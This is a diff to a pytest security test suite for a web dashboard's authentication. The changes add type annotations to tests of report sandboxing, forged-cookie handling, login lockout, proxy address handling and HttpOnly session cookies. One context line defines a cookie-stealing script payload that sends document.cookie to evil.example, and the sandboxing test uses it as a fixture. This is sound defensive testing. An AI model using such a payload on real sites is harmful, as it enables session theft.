@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import logging
+from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from html.parser import HTMLParser
 from pathlib import Path
@@ -13,6 +14,7 @@ import jwt
 import pytest
 import streamlit.runtime.context
 from sqlalchemy import select
+from sqlalchemy.orm import Session, sessionmaker
 from starlette.applications import Starlette
 from starlette.routing import Route
 from starlette.testclient import TestClient
@@ -30,7 +32,7 @@ STEALER = "<script>fetch('http://evil.example/?c=' + parent.document.cookie)</sc
 
 
 @pytest.fixture
-def sessions():  # type: ignore[no-untyped-def]
+def sessions() -> Iterator[sessionmaker[Session]]:
     engine, factory = make_app_db([("alice", "acme", "admin"), ("victor", "acme", "viewer")])
     yield factory
     engine.dispose()
@@ -50,7 +52,9 @@ class _Frames(HTMLParser):
         self.scripts += tag == "script"
 
 
-def test_a_report_is_shown_in_a_sandbox_without_the_apps_origin(sessions, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+def test_a_report_is_shown_in_a_sandbox_without_the_apps_origin(
+    sessions: sessionmaker[Session], tmp_path: Path
+) -> None:
     report = tmp_path / "weekly_cost_report-acme-1.html"
     report.write_text(STEALER, encoding="utf-8")
     with sessions.begin() as s:
@@ -106,8 +110,8 @@ FORGED = {
 
 @pytest.mark.parametrize("token", FORGED.values(), ids=FORGED.keys())
 def test_a_forged_cookie_is_signed_out_without_a_traceback(
-    sessions, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, token: str
-) -> None:  # type: ignore[no-untyped-def]
+    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, token: str
+) -> None:
     _client(monkeypatch, cookies={"netra_auth": token})
     with caplog.at_level(logging.INFO):
         at = open_app()
@@ -126,12 +130,12 @@ def _failures(at: AppTest, username: str, n: int) -> AppTest:
     return at
 
 
-def _user(sessions, username: str) -> User:  # type: ignore[no-untyped-def]
+def _user(sessions: sessionmaker[Session], username: str) -> User:
     with sessions() as s:
         return s.scalars(select(User).where(User.username == username)).one()
 
 
-def test_one_address_cannot_lock_out_an_admin(sessions, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
+def test_one_address_cannot_lock_out_an_admin(sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch) -> None:
     _client(monkeypatch, ip="203.0.113.66")
     attacker = _failures(open_app(), "alice", 5)
     # A new browser session from the same address is the same client: still blocked, even with the password.
@@ -145,7 +149,9 @@ def test_one_address_cannot_lock_out_an_admin(sessions, monkeypatch: pytest.Monk
     assert _user(sessions, "alice").failed_attempts == 0
 
 
-def test_behind_a_local_proxy_the_forwarded_address_is_the_client(sessions, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
+def test_behind_a_local_proxy_the_forwarded_address_is_the_client(
+    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
+) -> None:
     _client(monkeypatch, ip="127.0.0.1", headers=[("X-Forwarded-For", "203.0.113.66")])
     _failures(open_app(), "alice", 5)
     assert not is_signed_in(sign_in(open_app(), "alice"))
@@ -153,7 +159,9 @@ def test_behind_a_local_proxy_the_forwarded_address_is_the_client(sessions, monk
     assert is_signed_in(sign_in(open_app(), "alice"))
 
 
-def test_the_account_lockout_is_a_backstop_that_keeps_live_sessions(sessions, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
+def test_the_account_lockout_is_a_backstop_that_keeps_live_sessions(
+    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("NETRA_MAX_FAILED_LOGINS", "3")
     get_settings.cache_clear()
     _client(monkeypatch, ip="198.51.100.20")
@@ -173,7 +181,7 @@ def test_the_account_lockout_is_a_backstop_that_keeps_live_sessions(sessions, mo
         assert len(live) == 1
 
 
-def test_signing_in_has_the_server_set_an_httponly_cookie_for_the_live_session(sessions) -> None:  # type: ignore[no-untyped-def]
+def test_signing_in_has_the_server_set_an_httponly_cookie_for_the_live_session(sessions: sessionmaker[Session]) -> None:
     at = sign_in(open_app(), "alice")
     [frame] = [f for f in at.get("iframe") if f.proto.src.startswith(ROUTE)]
     server = Starlette(routes=[Route(ROUTE, session_cookie_route)])
